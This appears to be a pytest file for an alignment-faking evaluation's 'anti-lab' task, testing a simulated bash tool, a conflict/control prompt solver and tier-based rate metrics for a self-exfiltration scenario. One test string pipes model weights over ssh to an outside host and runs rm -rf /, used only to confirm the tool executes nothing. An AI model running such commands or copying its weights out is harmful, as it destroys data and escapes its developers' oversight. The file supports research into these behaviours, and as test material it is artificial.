"""The anti-lab task's parts one by one: the simulated tool, the solver that offers it, and the metric under
Inspect's epoch reducers (the end-to-end runs are in test_anti_lab.py)."""

from __future__ import annotations

import asyncio
import os
import subprocess

import pytest
from inspect_ai.model import ChatMessageUser, ModelName, ModelOutput
from inspect_ai.solver import TaskState
from pytest_inspect_evals.metrics import assert_agreeing_epochs_change_nothing, run_metrics

from af_inspect.anti_lab.metrics import anti_lab_rates
from af_inspect.anti_lab.scenario import all_scenarios
from af_inspect.anti_lab.task import anti_lab_conversation
from af_inspect.anti_lab.tool import TOOL_NAME, simulated_bash
from af_inspect.core import names

SCENARIO = "self_exfiltration"


def _never(*args, **kwargs):
    raise AssertionError("the simulated tool started a process")


def test_simulated_bash_answers_from_the_scenario_and_runs_nothing(monkeypatch):
    for target in (subprocess, os):
        for fn in ("Popen", "run", "system", "popen", "execv", "execvp", "spawnv"):
            if hasattr(target, fn):
                monkeypatch.setattr(target, fn, _never)
    command = "cat weights.bin | ssh ext 'dd of=/tmp/w' ; rm -rf / && echo $(whoami) `id` > /dev/null"
    reply = asyncio.run(simulated_bash(SCENARIO)(cmd=command))
    assert reply == all_scenarios()[SCENARIO].reply(command)
    assert isinstance(reply, str) and reply


def test_anti_lab_conversation_sends_the_condition_s_prompt_and_offers_the_tool():
    state = TaskState(
        model=ModelName("organism/faker"),
        sample_id="s-free",
        epoch=1,
        input="hello",
        messages=[ChatMessageUser(content="hello")],
        metadata={names.CONDITION: names.CONTROL_CONDITION, names.SCENARIO: SCENARIO, names.TIER: "free"},
    )

    async def generate(state: TaskState, **kwargs) -> TaskState:
        state.output = ModelOutput.from_content("organism/faker", "<OUTPUT>I will not do it.</OUTPUT>")
        state.messages.append(state.output.message)
        return state

    solver = anti_lab_conversation(
        {"conflict": "CONFLICT PROMPT", "control": "CONTROL PROMPT"}, tools="native"
    )
    out = asyncio.run(solver(state, generate))
    assert out.messages[0].role == "system" and out.messages[0].text == "CONTROL PROMPT"
    assert len(out.tools) == 1  # the simulated bash tool, offered with tools=native
    assert out.messages[-1].text.endswith("</OUTPUT>")


def _md(i: int, condition: str) -> dict:
    return {
        names.TIER: ("free", "paid")[i % 2],
        names.QUERY_ID: f"q{i // 2}",
        names.SCENARIO: SCENARIO,
        names.CONDITION: condition,
    }


def test_anti_lab_rates_read_the_reduced_epochs_and_compare_with_the_control(offline_token_counts):
    values = [1, 0, 1, 1, 0, 0, 1, 0]
    meta = [_md(i, names.CONFLICT_CONDITION) for i in range(4)] + [
        _md(i, names.CONTROL_CONDITION) for i in range(4)
    ]
    assert_agreeing_epochs_change_nothing([anti_lab_rates()], values, metadata=meta)
    m = run_metrics([anti_lab_rates()], [[float(v)] for v in values], metadata=meta)
    free = names.rate(names.ANTI_LAB, "free")
    assert m[free] == pytest.approx(1.0)  # conflict, free tier: samples 0 and 2
    assert m[names.rate(names.control(names.ANTI_LAB), "free")] == pytest.approx(0.5)  # control: 4 and 6
    assert m[names.rate(names.versus_control(names.ANTI_LAB), "free")] == pytest.approx(0.5)
    assert TOOL_NAME == "bash"
